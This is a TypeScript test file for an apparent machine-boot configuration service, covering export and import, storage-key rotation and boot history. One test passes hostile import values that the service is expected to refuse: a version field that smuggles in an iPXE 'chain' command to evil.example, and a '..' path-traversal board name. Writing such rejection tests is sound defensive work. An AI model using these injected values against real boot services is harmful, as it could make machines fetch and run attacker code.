/** Backup and restore, the rotation of the storage key, and the boots that are remembered. */
import { env } from 'cloudflare:workers';
import { describe, expect, it } from 'vitest';
import { OPERATOR } from '../support/edge.ts';
import { faultyBucket } from '../support/faulty-stores.ts';
import { shortPauses } from '../support/hurried.ts';
import { pathsOf } from '../support/json.ts';
import { config } from '../support/machine-texts.ts';
import { machineEdge } from '../support/operator.ts';

const KEYS = ['first-storage-key-of-at-least-32-bytes', 'second-storage-key-of-at-least-32-byte'] as const;

async function exported(edge: ReturnType<typeof machineEdge>): Promise<string[]> {
  const lines: string[] = [];
  for (let cursor: string | null = ''; cursor !== null; ) {
    const query = cursor === '' ? '' : `?cursor=${encodeURIComponent(cursor)}`;
    const page = await edge.call('GET', `/api/machines/export${query}`);
    expect(page.headers.get('content-type')).toBe('application/x-ndjson');
    const own = (await page.text()).split('\n').filter((line) => line !== '');
    expect(own.length).toBeLessThanOrEqual(300);
    lines.push(...own);
    cursor = page.headers.get('x-next-cursor');
  }
  return lines;
}

async function emptyBucket(): Promise<void> {
  const { objects } = await env.RELEASES.list();
  if (objects.length > 0) await env.RELEASES.delete(objects.map(({ key }) => key));
}

describe('export and import', () => {
  it('carry every machine over, URLs included', async () => {
    await emptyBucket();
    const edge = machineEdge();
    await edge.putProfile('p', { base: config('/base') });
    const urls = new Map<string, string>();
    await Promise.all(
      Array.from({ length: 65 }, async (_, index) => {
        const query = index % 2 ? '?profile=p' : '';
        const { id, urls: own } = await edge.putMachine(`t-${index}`, config(`/${index}`), query);
        urls.set(id, own.ignition);
      }),
    );
    await edge.call('DELETE', '/api/machines/t-0');
    const lines = await exported(edge);
    expect(lines).toHaveLength(64);

    await emptyBucket();
    const other = machineEdge();
    await other.putProfile('p', { base: config('/base') });
    const answer = await other.call('POST', '/api/machines/import', lines.join('\n'));
    expect([answer.status, await answer.json()]).toEqual([200, { imported: 64, dryRun: false }]);
    for (const id of ['t-1', 't-64']) {
      const booted = await other.boot(urls.get(id) ?? '');
      expect(pathsOf(await booted.text())).toContain(`/${id.slice(2)}`);
    }
    expect((await exported(other)).map((line) => JSON.parse(line).userData)).toEqual(
      lines.map((line) => JSON.parse(line).userData),
    );
  });

  it('an import that stops says where, and what it stored stays', async () => {
    await emptyBucket();
    const edge = machineEdge();
    await edge.putMachine('a', config('/a'));
    await edge.putMachine('b', config('/b'));
    const [a = '', b = ''] = await exported(edge);
    await emptyBucket();
    const broken = JSON.stringify({ ...JSON.parse(b), userData: config('relative') });
    for (const [second, detail] of [
      ['{', 'line 2: not a line of JSON'],
      ['{"id":"x"}', 'line 2: profile: '],
      [broken, 'line 2: user: storage.files.0.path: path not absolute'],
      [b.replace('"profile":null', '"profile":"none"'), 'line 2: profile: there is no profile none'],
      [b.replace('"id":"b"', '"id":"export"'), 'line 2: id: export is reserved'],
    ]) {
      const answer = await edge.call('POST', '/api/machines/import', `${a}\n${second}\n${b}`);
      const body = (await answer.json()) as { detail: string };
      expect([answer.status, body.detail.slice(0, detail?.length)]).toEqual([422, detail]);
      expect(body).toMatchObject({ imported: 1, stopped: { line: 2 } });
    }
    expect((await edge.call('GET', '/api/machines/a')).status).toBe(200);
    expect((await edge.call('GET', '/api/machines/b')).status).toBe(404);
  });

  it('an import into a store that fails says where it stopped', async () => {
    await emptyBucket();
    const r2 = faultyBucket();
    const edge = machineEdge({ bindings: { RELEASES: r2.bucket }, platform: shortPauses });
    for (const id of ['a', 'b', 'c']) await edge.putMachine(id, config(`/${id}`));
    // Machines that are as they were would not be written.
    const lines = (await exported(edge)).map((line) => line.replaceAll('/', '/other-'));
    r2.moodOf = (operation, key) => (operation === 'put' && key === 'machines/b.json' ? 'throws' : 'well');
    const answer = await edge.call('POST', '/api/machines/import', lines.join('\n'));
    expect([answer.status, await answer.json()]).toMatchObject([503, { imported: 1, stopped: { line: 2 } }]);
  });

  it.each([
    ['version', 'current\nchain http://evil.example/x'],
    ['channel', 'no/pe'],
    ['board', '..'],
    ['expiry', 1e13],
  ])('an import with a %s that cannot be is refused with its line', async (field, value) => {
    await emptyBucket();
    const edge = machineEdge();
    await edge.putMachine('vm', config('/a'));
    const line = JSON.parse(await (await edge.call('GET', '/api/machines/export')).text()) as Record<string, unknown>;
    const answer = await edge.call('POST', '/api/machines/import', JSON.stringify({ ...line, [field]: value }));
    expect([answer.status, (await answer.json<{ detail: string }>()).detail]).toEqual([
      422,
      expect.stringMatching(new RegExp(`^line 1: ${field}: `)),
    ]);
  });

  it('at most 300 machines a call', async () => {
    await emptyBucket();
    const edge = machineEdge();
    await edge.putMachine('m', '');
    const [line = ''] = await exported(edge);
    const many = Array.from({ length: 301 }, (_, index) => line.replace('"m"', `"m-${index}"`));
    const answer = await edge.call('POST', '/api/machines/import', many.join('\n'));
    expect(await answer.json()).toMatchObject({
      imported: 300,
      stopped: { line: 301, detail: 'at most 300 machines a call' },
    });
  }, 60_000);
});

describe('rotating the storage key', () => {
  it('old keys read, the new one writes, a call rewrites the rest, healthz counts', async () => {
    await emptyBucket();
    const before = machineEdge({ vars: { STORAGE_KEY: KEYS[0] } });
    await before.putProfile('p', { base: config('/base'), default: config('/default') });
    const { urls, pointer } = await before.putMachine('vm', config('/user'), '?profile=p');
    await Promise.all(Array.from({ length: 60 }, (_, index) => before.putMachine(`k-${index}`, config('/x'))));
    await before.putMachine('none', '');

    const during = machineEdge({ vars: { STORAGE_KEY: `${KEYS[1]},${KEYS[0]}` } });
    expect(pathsOf(await (await during.boot(urls.ignition)).text())).toEqual(['/base', '/user']);
    const storage = async (headers: Record<string, string> = OPERATOR) =>
      (
        (await (await during.fetch('/healthz', { headers })).json()) as {
          storage: { records: Record<string, number>; warning?: string };
        }
      ).storage;
    expect(await storage()).toMatchObject({ key: 'STORAGE_KEY', warning: expect.stringContaining('older secret') });
    expect(Object.values((await storage()).records).reduce((sum, count) => sum + count, 0)).toBe(63);
    // A stranger learns nothing of it.
    for (const headers of [{}, { authorization: 'Bearer wrong' }]) expect(await storage(headers)).toBeUndefined();

    let resealed = 0;
    for (let cursor: string | null = ''; cursor !== null; ) {
      const query = cursor === '' ? '' : `?cursor=${encodeURIComponent(cursor)}`;
      const page = (await (await during.call('POST', `/api/storage/reseal${query}`)).json()) as {
        resealed: number;
        cursor: string | null;
      };
      resealed += page.resealed;
      cursor = page.cursor;
    }
    // 62 machines, a profile, and 61 renderings and that of the machine without a config.
    expect(resealed).toBe(62 + 1 + 62);

    const after = machineEdge({ vars: { STORAGE_KEY: KEYS[1] } });
    expect(pathsOf(await (await after.boot(urls.ignition)).text())).toEqual(['/base', '/user']);
    expect((await after.boot(pointer.ignition.config.replace.source)).status).toBe(200);
    const old = machineEdge({ vars: { STORAGE_KEY: KEYS[0] } });
    expect((await old.boot(urls.ignition)).status).toBe(503);
  });

  it('healthz says when the capability secret stands in for a storage key', async () => {
    const health = (await (await machineEdge().fetch('/healthz', { headers: OPERATOR })).json()) as { storage: object };
    expect(health.storage).toMatchObject({
      key: 'CAPABILITY_SECRET',
      warning: expect.stringContaining('STORAGE_KEY is not set'),
    });
  });
});

it('the last 20 boots are shown, newest first, and older ones go', async () => {
  await emptyBucket();
  let now = 1_800_000_000_000;
  const edge = machineEdge({ platform: { now: () => now, random: () => 0 } });
  const { urls } = await edge.putMachine('vm', '', '?version=4593.2.5');
  for (let boot = 0; boot < 25; boot += 1) {
    now += 1000;
    await edge.boot(boot % 2 ? urls.ipxe : urls.ignition);
    await edge.settle();
  }
  const { boots } = (await (await edge.call('GET', '/api/machines/vm')).json()) as {
    boots: { at: string; what: string }[];
  };
  expect(boots.map(({ at }) => at)).toEqual(
    Array.from({ length: 20 }, (_, back) => new Date(now - back * 1000).toISOString()),
  );
  expect((await env.RELEASES.list({ prefix: 'boots/vm/' })).objects).toHaveLength(20);
});
